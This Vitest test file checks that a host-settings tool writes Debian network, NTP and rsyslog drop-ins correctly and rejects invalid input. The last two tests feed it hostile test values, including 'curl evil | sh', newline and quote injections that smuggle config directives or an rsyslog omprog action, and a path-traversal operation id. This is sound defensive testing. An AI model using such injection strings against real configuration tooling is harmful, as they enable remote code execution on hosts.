import { existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import path from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { recorder, tempRoot } from '../../../test/harness/command-recorder.ts'
import { runPrivilegedRequests } from '../ops/privileged-requests.ts'
import { trackOp } from '../ops/progress.ts'
import { applyHostSettings } from './apply-host-settings.ts'
import { HOST_FILES, readHostSettings } from './host-files.ts'
import type { HostSettings } from './host-settings.ts'
import { readTimeAndLogging } from './time-and-logging.ts'

const STATIC: HostSettings = {
  hostname: 'cb1.corp.example',
  network: {
    interface: 'ens192',
    ipv4: { mode: 'static', address: '192.0.2.10/24', gateway: '192.0.2.1' },
    ipv6: { mode: 'static', address: '2001:db8::10/64', gateway: '2001:db8::1' },
    dns: ['192.0.2.53', '2001:db8::53'],
    searchDomains: ['corp.example', 'lab.corp.example'],
  },
  ntp: { servers: ['ntp1.corp.example', '192.0.2.123'] },
  syslog: { host: 'siem.corp.example', port: 6514, protocol: 'tcp', tls: true },
}

/** Every file under `root`, relative, sorted. */
const filesUnder = (root: string): string[] =>
  readdirSync(root, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => path.relative(root, path.join(d.parentPath, d.name)))
    .sort()

describe('applying host settings (root side)', () => {
  const roots: string[] = []
  afterAll(() => {
    for (const r of roots) rmSync(r, { recursive: true, force: true })
  })

  it('the drop-in files are readable by networkd, timesyncd and rsyslog even under a 077 umask (first boot)', async () => {
    const root = tempRoot('cb-host-umask-')
    roots.push(root)
    mkdirSync(path.join(root, 'etc'))
    const previous = process.umask(0o077)
    try {
      await applyHostSettings(root, STATIC, recorder().run)
    } finally {
      process.umask(previous)
    }
    for (const f of [HOST_FILES.network, HOST_FILES.timesyncd, HOST_FILES.rsyslog])
      expect({ f, mode: (statSync(path.join(root, f)).mode & 0o777).toString(8) }).toEqual({ f, mode: '644' })
  })

  it('writes exactly the Debian files, restarts what changed, and reads the same settings back', async () => {
    const root = tempRoot('cb-host-')
    roots.push(root)
    mkdirSync(path.join(root, 'etc'))
    writeFileSync(
      path.join(root, 'etc/hosts'),
      '127.0.0.1\tlocalhost\n127.0.1.1\tdebian\n10.9.9.9\tbuild.corp.example\n',
    )
    const { calls, run } = recorder()
    const r = await applyHostSettings(root, STATIC, run)

    expect(filesUnder(root)).toEqual(Object.values(HOST_FILES).sort())
    const read = (f: string) => readFileSync(path.join(root, f), 'utf8')
    expect(read('etc/hostname')).toBe('cb1.corp.example\n')
    expect(read('etc/hosts')).toBe(
      '127.0.0.1\tlocalhost\n127.0.1.1\tcb1.corp.example cb1\n10.9.9.9\tbuild.corp.example\n',
    )
    expect(read(HOST_FILES.network)).toContain(
      '[Match]\nName=ens192\n\n[Network]\nDHCP=no\nIPv6AcceptRA=no\nAddress=192.0.2.10/24\nGateway=192.0.2.1\nAddress=2001:db8::10/64\nGateway=2001:db8::1\nDNS=192.0.2.53\nDNS=2001:db8::53\nDomains=corp.example lab.corp.example\n',
    )
    expect(read(HOST_FILES.timesyncd)).toContain('[Time]\nNTP=ntp1.corp.example 192.0.2.123\n')
    const rsyslog = read(HOST_FILES.rsyslog)
    expect(rsyslog).toContain('action(type="omfwd"')
    expect(rsyslog).toContain('target="siem.corp.example"')
    expect(rsyslog).toContain('StreamDriver="gtls"')
    expect(rsyslog).toContain('StreamDriverPermittedPeers="siem.corp.example"')
    expect(filesUnder(root).some((f) => f.includes('clawback-tmp'))).toBe(false)

    expect(calls).toEqual([
      'hostnamectl set-hostname cb1.corp.example',
      'systemctl restart systemd-timesyncd.service',
      'systemctl restart rsyslog.service',
      'systemctl restart systemd-networkd.service',
    ])
    expect(r.changed).toHaveLength(5)
    expect(readHostSettings(root)).toEqual(STATIC)
    // the general reader (System page) sees Clawback's files like any other source
    expect(readTimeAndLogging(root)).toEqual({
      ntp: [{ source: HOST_FILES.timesyncd, servers: ['ntp1.corp.example', '192.0.2.123'] }],
      syslogForwarding: [{ source: HOST_FILES.rsyslog, target: 'tcp+tls://siem.corp.example:6514' }],
    })

    // applying the same settings again changes nothing and restarts nothing
    const again = recorder()
    expect(await applyHostSettings(root, STATIC, again.run)).toEqual({ changed: [], commands: [] })
    expect(again.calls).toEqual([])

    // back to DHCP, Debian's NTP pool and no forwarding: the drop-ins go away
    const dhcp: HostSettings = {
      ...STATIC,
      network: { interface: 'en*', ipv4: { mode: 'dhcp' }, ipv6: { mode: 'off' }, dns: [], searchDomains: [] },
      ntp: { servers: [] },
      syslog: { host: '192.0.2.99', port: 514, protocol: 'udp', tls: false },
    }
    const third = recorder()
    await applyHostSettings(root, dhcp, third.run)
    expect(third.calls).toEqual([
      'systemctl restart systemd-timesyncd.service',
      'systemctl restart rsyslog.service',
      'systemctl restart systemd-networkd.service',
    ])
    expect(existsSync(path.join(root, HOST_FILES.timesyncd))).toBe(false)
    expect(read(HOST_FILES.network)).toContain('DHCP=ipv4\nIPv6AcceptRA=no\nLinkLocalAddressing=no\n')
    expect(readHostSettings(root)).toEqual(dhcp)
    const none = { ...dhcp, syslog: null, network: { ...dhcp.network, ipv6: { mode: 'auto' as const } } }
    await applyHostSettings(root, none, recorder().run)
    expect(existsSync(path.join(root, HOST_FILES.rsyslog))).toBe(false)
    expect(readHostSettings(root)).toEqual(none)
  })

  it('refuses invalid settings before writing anything', async () => {
    const root = tempRoot('cb-host-')
    roots.push(root)
    const { calls, run } = recorder()
    await expect(applyHostSettings(root, { ...STATIC, hostname: 'x\nevil' }, run)).rejects.toThrow(/^hostname:/)
    expect(filesUnder(root)).toEqual([])
    expect(calls).toEqual([])
  })

  it('the privileged helper refuses request files that are not valid host settings', async () => {
    const dataDir = tempRoot('cb-host-data-')
    const root = tempRoot('cb-host-')
    roots.push(dataDir, root)
    const dir = path.join(dataDir, 'ops', 'requests')
    mkdirSync(dir, { recursive: true })
    const put = (name: string, body: unknown) => writeFileSync(path.join(dir, name), JSON.stringify(body))
    const base = { kind: 'system-apply', opId: 'system-1-abc', requestedBy: 'admin' }
    put('a-newline.json', { ...base, settings: { ...STATIC, ntp: { servers: ['ntp1\nNTP=evil'] } } })
    put('b-extra-key.json', { ...base, settings: { ...STATIC, postUp: 'curl evil | sh' } })
    put('c-opid.json', { ...base, opId: '../../etc/x', settings: STATIC })
    put('d-no-settings.json', base)
    put('e-rsyslog-quote.json', {
      ...base,
      settings: { ...STATIC, syslog: { ...STATIC.syslog, host: 'a" type="omprog' } },
    })
    const { calls, run } = recorder()
    const outcomes = await runPrivilegedRequests(dataDir, {
      'upgrade-apply': async () => {},
      restart: async () => {},
      'system-apply': async (r) => {
        await trackOp(dataDir, r.opId, 'system', () => applyHostSettings(root, r.settings, run))
      },
    })
    expect(outcomes.map((o) => o.outcome)).toEqual([
      'refused: settings.ntp.servers.0: expected a host name or an IP address',
      'refused: settings: Unrecognized key: "postUp"',
      'refused: opId: Invalid string: must match pattern /^system-[a-z0-9-]+$/',
      'refused: settings: Invalid input: expected object, received undefined',
      'refused: settings.syslog.host: expected a host name or an IP address',
    ])
    expect(filesUnder(root)).toEqual([])
    expect(calls).toEqual([])
    expect(readdirSync(dir)).toEqual([])
  })
})
